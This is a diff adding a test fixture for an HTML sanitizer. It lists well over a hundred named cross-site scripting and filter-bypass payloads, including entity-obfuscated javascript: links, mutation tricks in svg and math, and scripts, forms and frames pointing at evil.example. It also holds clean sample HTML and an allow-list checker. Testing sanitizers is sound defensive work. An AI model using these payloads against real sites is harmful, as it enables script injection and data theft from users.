@@ -1,0 +1,200 @@
+// What a provider's HTML must not be able to do, and what it must. Whoever cleans it is tried with both.
+import {
+  allowedAttributes,
+  allowedTags,
+  attributePatterns,
+  outsideLink,
+  outsideLinkRel,
+} from '#src/contract/rules/html.rules.ts'
+
+const code = 'window.hacked=1'
+
+/** A name for the list of tests, and the HTML. */
+export const hostileHtml: readonly (readonly [name: string, html: string])[] = [
+  ['a script', `<script>${code}</script>`],
+  ['a script in capitals', `<SCRIPT>${code}</SCRIPT>`],
+  ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
+  ['a script from elsewhere without a scheme', '<script src=//evil.example/x.js></script>'],
+  ['a script split by a script', `<scr<script>ipt>${code}</scr</script>ipt>`],
+  ['a script that is not closed', `<p>a<script>${code}`],
+  ['a script with a slash for a space', `<script/x>${code}</script/x>`],
+  ['a script with a line break in its tag', `<script\n>${code}</script\n>`],
+  ['a script after a null', `<scr\u0000ipt>${code}</scr\u0000ipt>`],
+  ['a tag after too many brackets', `<<script>${code}//<</script>`],
+  ['a module', `<script type="module">import "https://evil.example/x.js"</script>`],
+  ['an import map', '<script type="importmap">{"imports":{"/":"https://evil.example/"}}</script>'],
+  ['a script inside an allowed tag', `<p><b><script>${code}</script></b></p>`],
+  ['a handler in double quotes', `<p onclick="${code}">a</p>`],
+  ['a handler in single quotes', `<p onclick='${code}'>a</p>`],
+  ['a handler without quotes', `<p onclick=${code}>a</p>`],
+  ['a handler in grave accents', `<p onclick=\`${code}\`>a</p>`],
+  ['a handler in capitals', `<p ONCLICK="${code}">a</p>`],
+  ['a handler with spaces around its sign', `<p onclick = "${code}">a</p>`],
+  ['a handler after a slash', `<p/onclick="${code}">a</p>`],
+  ['a handler after a form feed', `<p\fonclick="${code}">a</p>`],
+  ['a handler that names entities', `<p onclick="window&#46;hacked&#61;1">a</p>`],
+  ['a handler of focus that needs nobody', `<a autofocus tabindex=0 onfocus="${code}">a</a>`],
+  ['a handler of an image', `<img src=x onerror="${code}">`],
+  ['a handler of an allowed image', `<img src="/api/assets/application/logo" alt="" onload="${code}">`],
+  ['a handler behind a quote inside a value', `<img alt='"' src=x onerror=${code} title='"'>`],
+  ['a handler of a style', `<p style="animation-name:x" onanimationstart="${code}">a</p>`],
+  ['a handler of what unfolds', `<details open ontoggle="${code}"><summary>a</summary></details>`],
+  ['a handler of the body', `<body onload="${code}"><p>a</p></body>`],
+  ['a handler of a marquee', `<marquee onstart="${code}">a</marquee>`],
+  ['a handler of a tag of nobody', `<custom-tag onpointerenter="${code}">a</custom-tag>`],
+  ['a link to a script', `<a href="javascript:${code}">a</a>`],
+  ['a link to a script in capitals', `<a href="JaVaScRiPt:${code}">a</a>`],
+  ['a link to a script by decimal entities', '<a href="&#106;&#97;vascript:window.hacked=1">a</a>'],
+  ['a link to a script by entities without end', '<a href="&#0000106&#0000097vascript:window.hacked=1">a</a>'],
+  ['a link to a script by hexadecimal entities', '<a href="&#x6A;avascript&#x3a;window.hacked=1">a</a>'],
+  ['a link to a script by a named colon', '<a href="javascript&colon;window.hacked=1">a</a>'],
+  ['a link to a script split by a tab', `<a href="jav\tascript:${code}">a</a>`],
+  ['a link to a script split by a tab’s name', `<a href="jav&Tab;ascript:${code}">a</a>`],
+  ['a link to a script split by a line break', `<a href="java\nscript:${code}">a</a>`],
+  ['a link to a script split by a line break’s name', `<a href="java&NewLine;script:${code}">a</a>`],
+  ['a link to a script after white space', `<a href="  \n javascript:${code}">a</a>`],
+  ['a link to a script after a control character', `<a href="\u0001javascript:${code}">a</a>`],
+  ['a link to a script after a control character’s entity', `<a href="&#14;javascript:${code}">a</a>`],
+  ['a link to a script after a soft hyphen', `<a href="\u00adjavascript:${code}">a</a>`],
+  ['a link to VBScript', '<a href="vbscript:msgbox(1)">a</a>'],
+  ['a link to data', '<a href="data:text/html,<script>window.hacked=1</script>">a</a>'],
+  ['a link to coded data', '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=">a</a>'],
+  ['a link to a blob', '<a href="blob:https://evil.example/1">a</a>'],
+  ['a link to a file', '<a href="file:///etc/passwd">a</a>'],
+  ['a link to the source of a page', '<a href="view-source:https://evil.example">a</a>'],
+  ['a link to another site without a scheme', '<a href="//evil.example">a</a>'],
+  ['a link to another site by backslashes', '<a href="/\\evil.example">a</a>'],
+  ['a link to another site by a tab', '<a href="/\t/evil.example">a</a>'],
+  ['a link to another site by a user name', '<a href="https://aurora.example@evil.example">a</a>'],
+  ['a link with two addresses', `<a href="/about" href="javascript:${code}">a</a>`],
+  ['a link with an opener', '<a href="https://evil.example" target="_blank" rel="opener">a</a>'],
+  ['a link that pings', '<a href="/about" ping="https://evil.example">a</a>'],
+  ['a link that downloads', '<a href="/about" download="x.exe">a</a>'],
+  ['a link in XML', `<a xlink:href="javascript:${code}">a</a>`],
+  ['a map of links', `<map name=m><area shape=default href="javascript:${code}"></map>`],
+  ['an image from elsewhere', '<img src="https://evil.example/pixel.gif" alt="">'],
+  ['an image from elsewhere without a scheme', '<img src="//evil.example/pixel.gif" alt="">'],
+  ['an image from elsewhere by its set', '<img srcset="https://evil.example/pixel.gif 1x" alt="">'],
+  ['an image that is a drawing', `<img src="data:image/svg+xml,<svg onload='${code}'/>" alt="">`],
+  ['an image that is a coded drawing', '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="">'],
+  ['an image outside the assets', '<img src="/api/assets/../demo/login/x" alt="">'],
+  ['an image outside the assets by a code', '<img src="/api/assets/%2e%2e/logout" alt="">'],
+  ['an image that is a script', `<img src="javascript:${code}" alt="">`],
+  ['a picture', `<picture><source srcset="https://evil.example/x"><img src=x onerror=${code}></picture>`],
+  ['a drawing', `<svg onload="${code}"></svg>`],
+  ['a drawing with a script', `<svg><script>${code}</script></svg>`],
+  ['a drawing with a script by entities', '<svg><script>window&#46;hacked&#61;1</script></svg>'],
+  ['a drawing with a link', `<svg><a xlink:href="javascript:${code}"><text>a</text></a></svg>`],
+  [
+    'a drawing that changes a link',
+    `<svg><a><animate attributeName="href" values="javascript:${code}"/><text>a</text></a></svg>`,
+  ],
+  ['a drawing with foreign content', `<svg><foreignObject><img src=x onerror=${code}></foreignObject></svg>`],
+  [
+    'a drawing that hides its end',
+    `<svg><style><!--</style><img title="--></style><img src=x onerror=${code}>"></svg>`,
+  ],
+  ['a drawing with a paragraph', `<svg></p><style><a id="</style><img src=1 onerror=${code}>"></svg>`],
+  ['a formula', `<math><mi href="javascript:${code}">a</mi></math>`],
+  [
+    'a formula whose parts mean other things when read again',
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;"></table></mtext></math>`,
+  ],
+  [
+    'a form in a formula that is read twice',
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}></style></mglyph></form>`,
+  ],
+  ['a text area that ends early', `<textarea></textarea/><img src=x onerror=${code}></textarea>`],
+  ['a title that ends early', `<title></title/><img src=x onerror=${code}></title>`],
+  ['raw text', `<xmp><img src=x onerror=${code}></xmp>`],
+  ['raw text with an attribute that ends it', `<xmp><p title="</xmp><img src=x onerror=${code}>"></xmp>`],
+  ['what is for browsers without scripts', `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`],
+  ['what is for browsers without embedding', `<noembed><p title="</noembed><img src=x onerror=${code}>"></noembed>`],
+  ['plain text to the end', `<plaintext><img src=x onerror=${code}>`],
+  ['a style', '<style>@import "https://evil.example/x.css"; body { display: none }</style>'],
+  ['a style that ends early', `<style></style/><img src=x onerror=${code}></style>`],
+  ['a style of an element', '<p style="position:fixed;inset:0;background:url(https://evil.example)">a</p>'],
+  ['a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
+  ['an import', '<link rel="import" href="https://evil.example">'],
+  ['a page that leaves by itself', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['a policy', '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
+  ['another base', '<base href="https://evil.example/"><a href="/about">a</a>'],
+  ['a form', '<form action="https://evil.example"><input name="q"><button>Send</button></form>'],
+  ['a button that sends elsewhere', `<button formaction="javascript:${code}">a</button>`],
+  ['a field with a handler', `<input autofocus onfocus="${code}">`],
+  ['a choice', `<select><option><img src=x onerror=${code}></option></select>`],
+  ['a frame', '<iframe src="https://evil.example"></iframe>'],
+  ['a frame with a script', `<iframe src="javascript:${code}"></iframe>`],
+  ['a frame with its page inside', '<iframe srcdoc="&lt;script&gt;parent.hacked=1&lt;/script&gt;"></iframe>'],
+  ['a frame with content for old browsers', `<iframe><p title="</iframe><img src=x onerror=${code}>"></iframe>`],
+  ['frames', '<frameset><frame src="https://evil.example"></frameset>'],
+  ['an object', '<object data="https://evil.example/x.swf"></object>'],
+  ['something embedded', `<embed src="javascript:${code}">`],
+  ['an applet', '<applet code="x.class"></applet>'],
+  ['a film', `<video poster="https://evil.example" onloadstart="${code}"><source onerror="${code}"></video>`],
+  ['a sound', `<audio src=x onerror="${code}"></audio>`],
+  ['a template', `<template><img src=x onerror=${code}></template>`],
+  ['a shadow', `<div><template shadowrootmode="open"><script>${code}</script></template></div>`],
+  ['a slot', '<slot name="x">a</slot>'],
+  ['a part of the page by name', '<p id="root" name="config" class="app">a</p>'],
+  ['an element that pretends to be another', '<p is="x-app" data-app="1" role="alert" aria-live="assertive">a</p>'],
+  ['an element one can write in', '<p contenteditable autofocus>a</p>'],
+  ['a comment with a script', `<!--<script>${code}</script>-->`],
+  ['a comment that ends early', `<!--><img src=x onerror=${code}>-->`],
+  ['a comment that ends oddly', `<!-- --!><img src=x onerror=${code}> -->`],
+  ['a comment of one browser', `<!--[if IE]><script>${code}</script><![endif]-->`],
+  ['a comment inside a tag', `<p <!-- onclick=${code} -->>a</p>`],
+  ['text of XML', `<![CDATA[<img src=x onerror=${code}>]]>`],
+  ['an instruction', `<?xml-stylesheet href="javascript:${code}"?>`],
+  ['an entity of its own', '<!DOCTYPE p [<!ENTITY x "<script>window.hacked=1</script>">]><p>&x;</p>'],
+  ['a tag that is not closed', `<img src=x onerror=${code} `],
+  ['a tag in a tag', `<a href="<img src=x onerror=${code}>">a</a>`],
+  ['tags that overlap', `<a href="/about"><p></a><img src=x onerror=${code}></p>`],
+  ['a table around a form', `<table><form><tr><td><img src=x onerror=${code}></td></tr></form></table>`],
+  ['a name of JavaScript’s own', '<constructor>a</constructor><p constructor="1" __proto__="2">a</p>'],
+  ['a wide character for a bracket', `＜script＞${code}＜/script＞`],
+  ['script by entities, which is a text', '&lt;script&gt;window.hacked=1&lt;/script&gt;'],
+]
+
+/** As deep as nobody nests by hand; a cleaner may refuse it, but must not fail on it. */
+export const deepHtml = `${'<div>'.repeat(30_000)}a${'</div>'.repeat(30_000)}`
+
+/** What a provider writes, and gets as it wrote it. */
+export const ordinaryHtml: readonly string[] = [
+  '<h2>Call us</h2><h3>Now</h3><h4>Or later</h4><p>Text.</p>',
+  '<p>5 &lt; 6 &amp; 7 &gt; 6, “quoted”, it’s 20 °C, ½, 😀</p>',
+  '<ul><li>One</li><li>Two<ul><li>Two and a half</li></ul></li></ul><ol><li>First</li></ol>',
+  '<dl><dt>Fasting</dt><dd>No food for 6 hours</dd></dl>',
+  '<p><strong>a</strong> <em>b</em> <b>c</b> <i>d</i> <small>e</small> <abbr title="Computed tomography">CT</abbr></p>',
+  '<p><a href="tel:0370100100">a</a> <a href="tel:+38923000100">b</a> <a href="mailto:a@b.example?subject=Hello%20there">c</a></p>',
+  '<p><a href="/contact">a</a> <a href="/melbourne?exam=knee-x-ray#times">b</a></p>',
+  '<p><a rel="noopener noreferrer" href="https://www.oaic.gov.au/privacy?a=1&amp;b=2#top">a</a></p>',
+  '<p><a rel="noopener noreferrer" href="http://xn--80ak6aa92e.example:8080">a</a></p>',
+  '<p><img alt="Our clinic" src="/api/assets/application/logo" /></p>',
+  '<p><img alt="" src="data:image/png;base64,iVBORw0KGgo=" /></p>',
+  '<blockquote lang="mi" dir="ltr">Kia ora</blockquote><hr /><p>a<br />b</p>',
+  '<table><caption>Hours</caption><thead><tr><th scope="col">Day</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">a</td></tr></tbody></table>',
+  '<section><div><span lang="mk">Добредојдовте</span></div></section><address>8 Bell Street<br />Coburg</address>',
+]
+
+const attributeProblems = (element: Element): string[] => {
+  const tag = element.localName
+  const allowed = [...(allowedAttributes['*'] ?? []), ...(allowedAttributes[tag] ?? [])]
+  return [...element.attributes]
+    .filter(({ name, value }) => !allowed.includes(name) || !(attributePatterns[name]?.test(value) ?? true))
+    .map(({ name, value }) => `${name}="${value}" of ${tag}`)
+}
+
+/** Everything in the element that the list does not allow, as a browser reads it; nothing for clean HTML. */
+export const forbiddenIn = (root: Element): string[] =>
+  [...root.querySelectorAll('*')].flatMap((element) => {
+    const { localName, namespaceURI } = element
+    if (!allowedTags.includes(localName) || namespaceURI !== 'http://www.w3.org/1999/xhtml') return [localName]
+    const needsRel = localName === 'a' && outsideLink.test(element.getAttribute('href') ?? '')
+    const rel = element.getAttribute('rel')
+    return [
+      ...attributeProblems(element),
+      ...(rel === (needsRel ? outsideLinkRel : null) ? [] : [`rel="${rel}" of a`]),
+      ...(localName === 'img' && !element.hasAttribute('alt') ? ['img without alt'] : []),
+    ]
+  })
